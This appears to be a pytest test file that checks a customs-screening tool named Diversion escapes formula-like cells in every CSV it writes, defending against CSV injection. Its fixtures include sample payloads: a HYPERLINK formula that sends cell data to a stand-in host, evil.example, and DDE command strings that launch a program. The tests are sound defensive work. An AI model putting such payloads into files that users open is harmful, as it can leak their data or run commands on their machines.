"""Every CSV Diversion writes is safe to open in a spreadsheet: no cell runs as a formula
(OWASP CSV injection), while the numbers of numeric columns stay numbers."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from diversion.csv_output import CsvWriter, escape_cell
from diversion.declarations import InputError
from diversion.flows.findings import Finding, write_findings
from diversion.screening import Decision
from diversion.screening.decision import Reason
from diversion.screening.output import write_decisions, write_errors
from tests.conftest import ROOT, csv_text, row
from tests.test_cli import run

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ATTACKS = [HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd", "\t=1+1"]


def read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def live_formulas(rows: list[list[str]], numeric: frozenset[int] = frozenset()) -> list[str]:
    """Cells a spreadsheet would evaluate: text starting with a formula character, except
    plain numbers in numeric columns."""
    return [
        cell
        for r in rows
        for i, cell in enumerate(r)
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
        and not (i in numeric and re.fullmatch(r"[+-]?\d+(\.\d+)?", cell))
    ]


@pytest.mark.parametrize("attack", [*ATTACKS, "\rx", "=", "@"])
def test_formula_like_text_gets_a_leading_quote(attack: str) -> None:
    assert escape_cell(attack) == "'" + attack
    assert escape_cell(attack, numeric=True) == "'" + attack


@pytest.mark.parametrize("value", [-5, -0.25, Decimal("-12.50"), None, 0, "ТОО «Элем»", "a=b"])
def test_numbers_and_ordinary_text_are_left_alone(value: object) -> None:
    assert escape_cell(value) is value


def test_a_signed_number_stays_a_number_only_in_a_numeric_column() -> None:
    assert escape_cell("-5", numeric=True) == "-5"
    assert escape_cell("+3.25e-2", numeric=True) == "+3.25e-2"
    assert escape_cell("-5", numeric=False) == "'-5"  # text fields: OWASP's advice, whole
    assert escape_cell("-5+A1", numeric=True) == "'-5+A1"


def test_the_writer_escapes_the_header_rows_and_mappings() -> None:
    buffer = io.StringIO()
    writer = CsvWriter(buffer, ["=name", "delta"], numeric=["delta"], lineterminator="\n")
    writer.writeheader()
    writer.writerows([[HYPERLINK, "-5"], {"=name": "@SUM(A1)", "delta": -7.5}])
    assert buffer.getvalue().splitlines() == [
        "'=name,delta",
        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-5',
        "'@SUM(A1),-7.5",
    ]
    with pytest.raises(ValueError, match="not columns"):
        writer.writerow({"other": 1})
    with pytest.raises(ValueError, match="not among the columns"):
        CsvWriter(buffer, ["a"], numeric=["b"])


def test_decisions_and_errors_csv_escape_what_the_declarant_wrote(tmp_path: Path) -> None:
    reason = Reason("party.sanctioned", "high", "@consignee matches", 2, {"x": "=1"})
    decisions = [
        Decision(HYPERLINK, "stop", "red", (reason,), "2024-01-01T00:00:00Z", "test", ()),
        Decision("+cmd", "clear", "green", (), "2024-01-01T00:00:00Z", "test", ()),
    ]
    out = tmp_path / "decisions.csv"
    write_decisions(out, decisions, "csv")
    rows = read(out)
    assert [r[0] for r in rows[1:]] == ["'" + HYPERLINK, "'+cmd"]
    assert rows[1][5] == "2" and rows[1][6] == "'@consignee matches"
    assert live_formulas(rows) == []
    errors = tmp_path / "decisions.errors.csv"
    write_errors(errors, [InputError("-f.csv", 3, "=x", "@bad", "+D")], "csv")
    assert read(errors)[1] == ["'-f.csv", "3", "'=x", "'@bad", "'+D"]


def test_findings_keep_negative_numbers_and_escape_notes(tmp_path: Path) -> None:
    finding = Finding(
        "surge", "KZ", "RU", "X", "8542", "2021", "2022", -5.0, 12.5, -2.5, 1.0, "=cmd"
    )
    out = tmp_path / "findings.csv"
    write_findings([finding], out)
    header, values = read(out)
    cells = dict(zip(header, values, strict=True))
    assert (cells["baseline"], cells["ratio"], cells["note"]) == ("-5.0", "-2.5", "'=cmd")


def test_screen_format_csv_end_to_end(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_text(
        csv_text(
            [
                row(declaration_id=HYPERLINK, consignee_name="+cmd|' /C calc'!A0"),
                row(declaration_id="@SUM(1+1)", hs_code="12"),  # invalid: in the errors file
            ]
        ),
        "utf-8",
    )
    out = tmp_path / "decisions.csv"
    args = ["screen", str(source), "--out", str(out), "--format", "csv"]
    result = run(*args, "--home", str(tmp_path / "home"), cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    decisions, errors = read(out), read(tmp_path / "decisions.errors.csv")
    assert {r[0] for r in decisions[1:]} == {"'" + HYPERLINK}
    assert [r[4] for r in errors[1:]] == ["'@SUM(1+1)"]
    assert (
        live_formulas(decisions, frozenset({5})) == []
        and live_formulas(errors, frozenset({1})) == []
    )


def test_match_pairs_output_escapes_the_echoed_input(tmp_path: Path) -> None:
    source = tmp_path / "pairs.csv"
    source.write_text(
        f'name1,name2,schema\n"{HYPERLINK.replace(chr(34), chr(34) * 2)}",+cmd,Company\n'
        "@SUM(A1),Elem Trading,Company\n",
        "utf-8",
    )
    out = tmp_path / "scores.csv"
    result = run("match", "pairs", str(source), "--out", str(out), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    rows = read(out)
    assert [r[:2] for r in rows[1:]] == [["'" + HYPERLINK, "'+cmd"], ["'@SUM(A1)", "Elem Trading"]]
    assert live_formulas(rows, frozenset({3})) == []


def test_every_csv_writer_in_the_source_goes_through_csv_output() -> None:
    """A new CSV output cannot forget the escaping: only csv_output.py builds a csv writer."""
    pattern = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for path in sorted((ROOT / "src" / "diversion").rglob("*.py"))
        if pattern.search(path.read_text("utf-8")) and path.name != "csv_output.py"
    ]
    assert offenders == []
